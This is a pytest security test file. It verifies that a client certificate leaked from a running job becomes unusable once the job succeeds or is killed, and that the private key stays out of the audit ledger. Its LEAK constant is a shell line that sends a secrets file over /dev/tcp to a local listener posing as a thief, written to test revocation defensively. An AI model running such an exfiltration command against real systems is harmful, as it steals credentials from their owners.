"""A client certificate that a job leaks works while the job runs, and never after its end, however it ended."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from justenough.domain.core.secret import Secret
from tests.support.people import Human
from tests.support.shop import Shop, access, spec
from tests.support.warehouse import Fields, Warehouse
from worker.stack.stack_file import Stack

pytestmark = pytest.mark.servers
LEAK = "exec 3<>/dev/tcp/127.0.0.1/{port}; cat /run/justenough/warehouse.json >&3; read -u 3; true"
"""The job runs until the receiver of its secret closes the connection."""
READ = access("warehouse-api", deliver={"file": {"path": "warehouse.json"}})


@pytest.fixture
def thief() -> Iterator[socket.socket]:
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(180)
        yield listening


@pytest.fixture
def warehouse(whole: Stack, tmp_path: Path) -> Warehouse:
    assert whole.vault
    return Warehouse(whole.vault, tmp_path)


def leak_spec(thief: socket.socket) -> dict[str, Any]:
    return spec(LEAK.format(port=thief.getsockname()[1]), READ)


@contextmanager
def receive_leak(thief: socket.socket) -> Iterator[Fields]:
    """Yield the secret that a job leaks; the job runs for the block."""
    connection, _ = thief.accept()
    with connection, connection.makefile() as lines:
        text = "".join(iter(lines.readline, "}\n")) + "}"
        yield {name: Secret(str(value)) for name, value in json.loads(text).items()}


def test_a_leaked_certificate_is_useless_once_its_job_has_succeeded(
    ops: Human, shop: Shop, thief: socket.socket, warehouse: Warehouse
) -> None:
    job = ops.launch(leak_spec(thief))
    with receive_leak(thief) as stolen:
        assert warehouse.can_connect(stolen)

    seen = ops.until(job)

    assert (seen["state"], seen["revocation"]["state"]) == ("succeeded", "confirmed")
    assert warehouse.is_listed(stolen)
    assert not warehouse.can_connect(stolen)
    (credential,) = seen["credentials"]
    assert credential["state"] == "confirmed"
    assert credential["certificate"] == f"pki/cert/{stolen['serial_number'].reveal()}"
    assert "is in the CRL" in credential["confirmed_how"]
    shop.assert_dead(seen)


def test_a_leaked_certificate_is_useless_once_its_job_was_killed_and_the_ledger_has_nothing_of_its_key(
    ops: Human, auditor: Human, shop: Shop, thief: socket.socket, warehouse: Warehouse
) -> None:
    job = ops.launch(leak_spec(thief))
    with receive_leak(thief) as stolen:
        assert warehouse.can_connect(stolen)
        assert ops.api.post(f"jobs/{job}/kill").status_code == 202
        seen = ops.until(job)
    assert (seen["state"], seen["revocation"]["state"]) == ("killed", "confirmed")
    assert not warehouse.can_connect(stolen)
    shop.assert_dead(seen)
    told = json.dumps(auditor.ledger(job))
    assert seen["credentials"][0]["certificate"] in told
    assert all(line not in told for line in stolen["private_key"].reveal().splitlines()[1:-1])
